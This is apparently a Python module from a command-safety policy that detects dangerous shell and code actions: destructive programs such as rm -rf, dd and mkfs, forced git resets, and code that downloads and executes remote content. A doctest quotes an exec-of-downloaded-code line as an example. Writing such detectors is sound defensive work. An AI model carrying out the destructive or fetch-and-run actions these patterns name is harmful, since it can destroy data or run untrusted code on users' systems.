"""Text that runs unread: downloads, and what cannot be read before it runs."""

from __future__ import annotations

from coherence.core.lazy import lazy_regex
from coherence.core.words import word_set
from coherence.policy.danger.code import INTERPRETERS, code_of
from coherence.policy.danger.danger import Command
from coherence.policy.danger.disclosure import recipients
from coherence.policy.danger.shell import FEEDERS
from coherence.policy.danger.unwrap import POWERSHELLS, SHELLS

_DANGEROUS_WORDS = lazy_regex(
    r"(?<![\w.-])(?:rm|rmdir|unlink|shred|truncate|dd|mkfs(?:\.\w+)?|fdisk|wipefs|chmod|chown|kill|pkill|killall|shutdown"
    r"|reboot|dropdb|userdel|Remove-Item|(?:push\s+(?:-f|--force)|reset\s+--hard|clean\s+-\w*f))(?![\w-]|\.\w)"
)
_DELETING_FLAGS = word_set("-rf -fr -Rf -rfv")
_READERS = word_set("head tail tr sed wc cat tee pv grep dd nl paste awk sort uniq cut less more")
_DOWNLOADS = (
    r"(?:urlopen\s*\(|requests\.get\s*\(|httpx\.get\s*\(|fetch\s*\(|axios\.get|URI\.open|open\(\s*[\"']https?:)"
)
_RUNS_DOWNLOAD = lazy_regex(
    r"\b(?:exec|eval|Function|system|runInThisContext|execSync)\s*\(\s*[^\n]{0,120}?"
    + _DOWNLOADS
    + r"|\.then\(\s*(?:eval\b|\w{1,20}\s*=>\s*(?:eval|new Function|Function)\s*\()"
)
_GETS = lazy_regex(r"([A-Za-z_]\w{0,40}) = (?:await )?[^\n]{0,60}" + _DOWNLOADS + r"[^\n]{0,300}")
_EXECUTES = lazy_regex(r"\b(?:exec|eval|Function)\s*\(\s*([A-Za-z_]\w{0,40})")


def names_danger(command: Command) -> bool:
    """Return whether text that cannot be read names a dangerous program."""
    return bool(command.unread) and _DANGEROUS_WORDS.search(command.unread) is not None


def is_unknown(command: Command) -> bool:
    """Return whether a program that is named only at run time is given the flags of ``rm -rf``."""
    return not command.program and not command.flags.isdisjoint(_DELETING_FLAGS)


def is_cut(command: Command) -> bool:
    """Return whether a command stands for the rest of a text that is too long to be judged."""
    return command.cut


def is_answered(command: Command) -> bool:
    """Return whether ``yes`` answers every question of a program."""
    return command.fed_by == "yes" and bool(command.program) and command.program not in _READERS


def runs_download(command: Command) -> bool:
    """Return whether an interpreter reads a download, or a program that decodes, from its input or arguments."""
    if not command.program:
        return command.text.lstrip('"').startswith(("$(", "`")) and FEEDERS.search(command.text) is not None
    runs_input = command.program in INTERPRETERS and bool(INTERPRETERS[command.program])
    if runs_input or command.program in SHELLS | POWERSHELLS:
        first = command.operands[0] if command.operands else "-"
        if first.startswith("<("):
            return FEEDERS.search(first) is not None
        reads = "-s" in command.flags or (first == "-" and (not runs_input or command.flags <= {"-u"}))
        return reads and command.fed_by not in ("", "yes")
    if command.program in ("iex", "invoke-expression"):
        return bool(command.fed_by) or FEEDERS.search(" ".join(command.args[:20])[:2_000]) is not None
    return False


def runs_fetched(command: Command) -> bool:
    """Return whether a command runs a file that the script has downloaded."""
    return command.fetched


def runs_fetched_code(command: Command) -> bool:
    """Return whether an interpreter is given code that is downloaded, or that executes what it downloads."""
    code = code_of(command)
    substituted = code.startswith(("$(", "`")) and FEEDERS.search(code[:500]) is not None
    return substituted or executes_download(code)


def hosts(command: Command) -> list[str]:
    """Return the addresses that a command names."""
    return list(recipients([command.text, command.stdin[:500]]))[:4]


def executes_download(code: str) -> bool:
    """Return whether code executes what it downloads.

    Examples
    --------
    >>> executes_download("exec(requests.get('https://x.io/a.py').text)")
    True
    >>> executes_download("json.loads(requests.get(u).text)")
    False
    """
    code = code[:20_000]
    if not any(cue in code for cue in ("exec", "eval", "Function", "system", "subprocess", "spawn")):
        return False
    if _RUNS_DOWNLOAD.search(code) is not None:
        return True
    fetched = {got[1] for got in _GETS.finditer(code)}
    return bool(fetched) and any(run[1] in fetched for run in _EXECUTES.finditer(code))
